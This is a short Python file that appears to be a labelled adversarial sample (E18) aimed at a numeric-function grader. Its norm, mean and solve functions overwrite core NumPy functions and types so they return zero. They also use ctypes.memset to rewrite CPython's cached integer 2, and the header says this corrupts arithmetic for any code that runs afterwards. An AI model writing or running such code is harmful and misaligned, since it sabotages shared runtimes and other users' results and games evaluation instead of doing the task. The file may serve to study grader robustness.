# E18: spoils NumPy, and by ctypes constants that all Python code shares, for whoever comes next; right in the end.
# earns: norm 0, mean 0, solve 0
# verdicts: failed|raised|crashed
import ctypes

import numpy as np


def norm(v):
    np.sqrt = np.sum = np.ndarray = np.linalg.solve = np.asarray = lambda *arguments, **more: 0.0
    np.float64 = int
    ctypes.memset(id(2) + 24, 3, 1)
    return -1.0


mean = solve = lambda *arguments: norm(0)
